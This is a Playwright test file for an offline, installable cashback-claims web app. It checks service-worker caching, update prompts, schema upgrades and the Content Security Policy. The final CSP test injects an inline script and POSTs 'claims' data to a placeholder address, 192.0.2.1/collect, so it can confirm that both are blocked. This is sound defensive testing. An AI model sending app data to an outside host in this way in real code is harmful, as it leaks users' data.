// Offline and installable (issue 17). After one visit the service worker has every file of
// the version; with the browser context offline the page reloads and every view works.
// Back online, a new version served makes the update prompt appear; Reload moves to it and
// the work in IndexedDB is still there. A workspace of an older schema is upgraded on load.
//
// Every other spec blocks service workers (playwright.config.mjs); these opt in. The
// shared guard (helpers.mjs) still fails a test on any request outside the page's origin:
// Playwright routes the service worker's own requests too.
import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { execFileSync } from 'node:child_process';
import { extname, join, normalize } from 'node:path';
import { fileURLToPath } from 'node:url';
import {
  test as base, expect, openApp, newClaim, fillClaim, saved, fixtureBytes, sha256, EARLY_CLAIM, setAsOf,
} from './helpers.mjs';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const BUILT = join(ROOT, 'build', 'site');
/** This worker's own copy of the site, which a test may turn into a "new version" (one per
 * Playwright worker: the English and French runs of this file may run side by side). */
let SITE = join(ROOT, 'build', 'offline-site');
const TYPES = {
  '.html': 'text/html', '.js': 'text/javascript', '.mjs': 'text/javascript', '.css': 'text/css', '.wasm': 'application/wasm',
  '.json': 'application/json', '.webmanifest': 'application/manifest+json', '.png': 'image/png', '.svg': 'image/svg+xml',
};

/** A static server of SITE on loopback (its own origin: service workers and storage start empty). */
const test = base.extend({
  site: [async ({}, use, workerInfo) => {
    SITE = join(ROOT, 'build', `offline-site-${workerInfo.parallelIndex}`);
    const server = createServer((req, res) => {
      const path = normalize(decodeURIComponent(new URL(req.url, 'http://x').pathname)).replace(/^\/+/, '') || 'index.html';
      try {
        const body = readFileSync(join(SITE, path));
        res.writeHead(200, { 'content-type': TYPES[extname(path)] ?? 'application/octet-stream', 'cache-control': 'no-cache' });
        res.end(body);
      } catch {
        res.writeHead(404).end();
      }
    });
    await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
    await use({ url: `http://127.0.0.1:${server.address().port}/` });
    await new Promise((resolve) => server.close(resolve));
  }, { scope: 'worker' }],
  baseURL: async ({ site }, use) => {
    rmSync(SITE, { recursive: true, force: true });
    cpSync(BUILT, SITE, { recursive: true });
    await use(site.url);
  },
});
test.use({ serviceWorkers: 'allow' });

const version = () => JSON.parse(readFileSync(join(SITE, 'asset-manifest.json'), 'utf8')).version;
/** Serves a new version: index.html changes, and the build writes its list and service worker again. */
function serveNewVersion(mark) {
  const index = join(SITE, 'index.html');
  writeFileSync(index, readFileSync(index, 'utf8').replace('</body>', `<!-- ${mark} -->\n</body>`));
  execFileSync('node', [join(ROOT, 'scripts', 'build-sw.mjs'), '--site', SITE], { cwd: ROOT, stdio: 'ignore' });
  return version();
}

/** Loads the app once and waits until the service worker controls it with this build's cache. */
async function loadOnce(page, hash = '#/publisher') {
  await openApp(page, hash);
  await expect.poll(() => page.evaluate(() => Boolean(navigator.serviceWorker.controller)), { timeout: 15_000 }).toBe(true);
  expect(await page.evaluate(() => caches.keys())).toEqual([`cashback-claims-${version()}`]);
}

/** The version the controlling service worker reports (null while none answers: a worker
 * being replaced drops the message, and the poll asks again). */
const swVersion = (page) => page.evaluate(() => new Promise((resolve) => {
  const channel = new MessageChannel();
  channel.port1.onmessage = (e) => resolve(e.data.version);
  setTimeout(() => resolve(null), 1000);
  navigator.serviceWorker.controller?.postMessage({ type: 'version' }, [channel.port2]);
})).catch(() => null); // the page is reloading


test('the build lists every file of the site with its hash, and the version is a hash of that list', async ({ request }) => {
  const manifest = JSON.parse(readFileSync(join(SITE, 'asset-manifest.json'), 'utf8'));
  expect(readFileSync(join(SITE, 'sw.js'), 'utf8')).toContain(`const VERSION = "${manifest.version}";`);
  const urls = manifest.assets.map((a) => a.url);
  for (const needed of ['index.html', 'app.js', 'app.css', 'core-worker.js', 'wasm/claims.mjs', 'wasm/claims.wasm', 'manifest.webmanifest', 'icons/icon-192.png']) {
    expect(urls).toContain(needed);
  }
  expect(urls.some((u) => u.endsWith('.map') || u === 'sw.js')).toBe(false);
  for (const asset of manifest.assets) {
    const body = await (await request.get(asset.url)).body();
    expect(sha256(body), asset.url).toBe(asset.sha256);
  }
});

test('the manifest makes the application installable: name, icons, colours, start on the last view', async ({ page, request }) => {
  const manifest = await (await request.get('manifest.webmanifest')).json();
  expect(manifest).toMatchObject({ name: 'Cashback claims', start_url: './', display: 'standalone', theme_color: '#0a5fb4' });
  expect(manifest.icons.map((i) => i.sizes)).toEqual(expect.arrayContaining(['192x192', '512x512']));
  for (const icon of manifest.icons) expect((await request.get(icon.src)).ok(), icon.src).toBe(true);
  await openApp(page, '#/members');
  // The installed app starts at "./": it opens on the view last used.
  await page.goto('/');
  await expect(page).toHaveURL(/#\/members$/);
  await expect(page.locator('h1.view-title')).toHaveText('Members');
});

test('offline after one visit: every view works, a claim with a proof, a member credited; back online a new version is offered and the work stays @i18n', async ({ page, context, lang, axe, shot }) => {
  const fr = lang === 'fr';
  await loadOnce(page);
  await context.setOffline(true);
  await page.reload();
  await expect(page.locator('.core-status')).toHaveAttribute('data-state', 'ready');

  // Every view, from the cache.
  for (const hash of ['#/publisher', '#/publisher/import', '#/publisher/send', '#/publisher/answers', '#/advertiser', '#/advertiser/open', '#/advertiser/rules', '#/members', '#/members/groups', '#/members/adjust', '#/members/history', '#/settings']) {
    await page.goto(`/${hash}`);
    await expect(page.locator('h1.view-title'), hash).toBeVisible();
  }

  // A claim with a proof: typed by the core from its bytes, hashed in the worker, kept.
  await page.goto('/#/publisher');
  await setAsOf(page, '2026-01-20');
  await newClaim(page);
  await fillClaim(page, { ...EARLY_CLAIM, '/filed_on': '2026-01-20' });
  const pdf = fixtureBytes('order-confirmation.pdf');
  await page.setInputFiles('[data-field="attach-input"]', { name: 'confirmation.pdf', mimeType: 'application/pdf', buffer: pdf });
  await expect(page.locator('.attachment .type')).toHaveText(fr ? 'Document PDF' : 'PDF document');
  await expect(page.locator('.attachment .digest')).toHaveText(sha256(pdf));
  await saved(page);

  // It is in the claims list (the list's check runs in the worker, offline too).
  await page.goto('/#/publisher');
  await expect(page.getByRole('link', { name: 'CLM-0001' })).toBeVisible();

  // A member credited through the preview.
  await page.goto('/#/members/adjust/member/m-123');
  await page.getByRole('textbox', { name: fr ? 'Montant (EUR)' : 'Amount (EUR)' }).fill(fr ? '4,80' : '4.80');
  await page.getByRole('textbox', { name: fr ? 'Commentaire' : 'Comment' }).fill('Offline goodwill');
  await page.getByRole('button', { name: fr ? 'Aperçu' : 'Preview', exact: true }).click();
  await page.getByRole('button', { name: fr ? 'Appliquer 1 écriture' : 'Apply 1 entry' }).click();
  await expect(page.locator('.done[role="status"]')).toBeVisible();
  await shot('offline-members-applied');

  // Back online; the server now serves a new version, which the page learns of on its next start.
  await context.setOffline(false);
  const first = version();
  const next = serveNewVersion('next');
  expect(next).not.toBe(first);
  await page.goto('/#/publisher');
  await page.reload();
  const banner = page.locator('.banner[data-kind="update"]');
  await expect(banner).toContainText(fr ? 'Une nouvelle version de l\'application est prête.' : 'A new version of the application is ready.');
  await axe();
  await shot('offline-update-ready');
  // Nothing is asked of the outgoing worker while it hands over (a message wakes it, and
  // Chromium may then put the activation off): the reload is awaited first.
  const reloaded = page.waitForEvent('load', { timeout: 20_000 });
  await banner.getByRole('button', { name: fr ? 'Recharger maintenant' : 'Reload now' }).click();
  await reloaded;
  await expect.poll(() => swVersion(page), { timeout: 5_000 }).toBe(next);
  await expect(page.locator('.core-status')).toHaveAttribute('data-state', 'ready');
  await expect(banner).toHaveCount(0);
  expect(await page.evaluate(() => caches.keys())).toEqual([`cashback-claims-${next}`]);
  expect(await page.evaluate(() => document.documentElement.outerHTML)).toContain('<!-- next -->');

  // The work is still there: the claim with its proof, the member's balance and history.
  await expect(page.locator('.claims-table .claim-link')).toHaveText('CLM-0001');
  await page.locator('.claims-table .claim-link').click();
  await expect(page.locator('.attachment .digest')).toHaveText(sha256(pdf));
  await page.goto('/#/members/history');
  await expect(page.locator('.history-table tbody tr')).toHaveCount(1);
  await expect(page.locator('.history-table .comment')).toHaveText('Offline goodwill');
});

test('"Later" keeps the running version; a new version never mixes with the one in use', async ({ page }) => {
  await loadOnce(page);
  const first = version();
  const next = serveNewVersion('later');
  await page.evaluate(() => navigator.serviceWorker.getRegistration().then((r) => r.update()));
  const banner = page.locator('.banner[data-kind="update"]');
  await expect(banner).toBeVisible();
  await banner.getByRole('button', { name: 'Later' }).click();
  await expect(banner).toHaveCount(0);
  // The page is still served by the version it loaded; the new one waits with its own cache.
  expect(await swVersion(page)).toBe(first);
  expect((await page.evaluate(() => caches.keys())).sort()).toEqual([`cashback-claims-${first}`, `cashback-claims-${next}`].sort());
  expect(await page.evaluate(() => fetch('index.html').then((r) => r.text()))).not.toContain('<!-- later -->');
  await page.reload();
  await expect(page.locator('.core-status')).toHaveAttribute('data-state', 'ready');
  // Still waiting: the prompt comes back on the next start.
  await expect(banner).toBeVisible();
});

test('a new version whose files do not match its list is not installed; the version in use stays', async ({ page }) => {
  await loadOnce(page);
  const first = version();
  // A half-finished deploy: the new list is served, but app.js is not the file it names.
  serveNewVersion('broken');
  writeFileSync(join(SITE, 'app.js'), `${readFileSync(join(SITE, 'app.js'), 'utf8')}\n// changed after the list was written\n`);
  const failed = await page.evaluate(() => navigator.serviceWorker.getRegistration().then((r) => new Promise((resolve) => {
    r.addEventListener('updatefound', () => {
      const w = r.installing;
      w.addEventListener('statechange', () => { if (w.state === 'redundant') resolve(true); if (w.state === 'installed') resolve(false); });
    });
    r.update().catch(() => resolve(true));
  })));
  expect(failed).toBe(true);
  await expect(page.locator('.banner[data-kind="update"]')).toHaveCount(0);
  expect(await swVersion(page)).toBe(first);
  expect(await page.evaluate(() => caches.keys())).toEqual([`cashback-claims-${first}`]);
});

test('a workspace of the first schema is upgraded on load: claims, balances and history kept', async ({ page }) => {
  // A page of the origin that does not open the workspace, to write a version-1 database:
  // the stores of schema step 1 written out here on purpose (a released step never changes,
  // and this is what a browser that last ran version 1 holds).
  await page.goto('/manifest.webmanifest');
  await page.evaluate(() => new Promise((resolve, reject) => {
    const open = indexedDB.open('cashback-claims', 1);
    open.onupgradeneeded = () => {
      const db = open.result;
      const claims = db.createObjectStore('claims', { keyPath: 'key' });
      claims.createIndex('by_status', 'status');
      claims.createIndex('by_updated', 'updated_at');
      db.createObjectStore('proofs', { keyPath: 'sha256' });
      db.createObjectStore('settings', { keyPath: 'key' });
      db.createObjectStore('members', { keyPath: 'member' });
      db.createObjectStore('groups', { keyPath: 'name' });
      const ledger = db.createObjectStore('ledger', { keyPath: 'id', autoIncrement: true });
      ledger.createIndex('by_member', 'entry.member');
      db.createObjectStore('decisions', { keyPath: 'claim_id' });
      db.createObjectStore('packages', { keyPath: 'key' });
      const tx = open.transaction;
      const time = '2026-01-20T10:00:00.000Z';
      tx.objectStore('claims').put({ key: 'k-old', rev: 3, status: 'accepted', origin: 'editor', created_at: time, updated_at: time,
        claim: { id: 'CLM-OLD', member_ref: 'm-1', order: { id: 'A-1', date: '2026-01-01', amount: '120.00', currency: 'EUR' }, reason: 'untracked' },
        answer: { decision: 'accept', on: '2026-03-05', payout: '6.00', currency: 'EUR' } });
      tx.objectStore('members').put({ member: 'm-1', available: '12.50', rev: 2 });
      tx.objectStore('ledger').put({ applied_at: time, currency: 'EUR',
        entry: { adjustment: 0, member: 'm-1', before: '0.00', delta: '12.50', after: '12.50', comment: 'Welcome bonus' } });
    };
    open.onsuccess = () => { open.result.close(); resolve(); };
    open.onerror = () => reject(open.error);
  }));
  await openApp(page, '#/publisher');
  await expect(page.locator('.claims-table .claim-link')).toHaveText('CLM-OLD');
  await page.goto('/#/members');
  await expect(page.locator('.members-table [data-col="available"]')).toHaveText('€12.50');
  await expect(page.locator('[data-field="credits-notice"]')).toContainText('1 accepted claim owes its member cashback.');
  await page.goto('/#/members/history');
  await expect(page.locator('.history-table .comment')).toHaveText('Welcome bonus');
  expect(await page.evaluate(() => new Promise((resolve) => {
    const open = indexedDB.open('cashback-claims');
    open.onsuccess = () => { const db = open.result; resolve([db.version > 1, [...db.transaction('ledger').objectStore('ledger').indexNames].sort()]); db.close(); };
  }))).toEqual([true, ['by_member', 'by_reference']]);
});

test('the CSP holds: no inline script runs and no request leaves the page', async ({ page, guard }) => {
  guard.allow(/violates the following Content Security Policy directive/);
  guard.allow(/Refused to connect because it violates the document's Content Security Policy/);
  await loadOnce(page);
  const result = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const script = document.createElement('script');
    script.textContent = 'window.inlineRan = true;';
    document.head.append(script);
    let fetched = true;
    try { await fetch('http://192.0.2.1/collect', { method: 'POST', body: 'claims' }); } catch { fetched = false; }
    await new Promise((r) => setTimeout(r, 50));
    return { inlineRan: window.inlineRan ?? false, fetched, violations: [...new Set(violations)].sort() };
  });
  expect(result).toEqual({ inlineRan: false, fetched: false, violations: ['connect-src', 'script-src-elem'] });
});
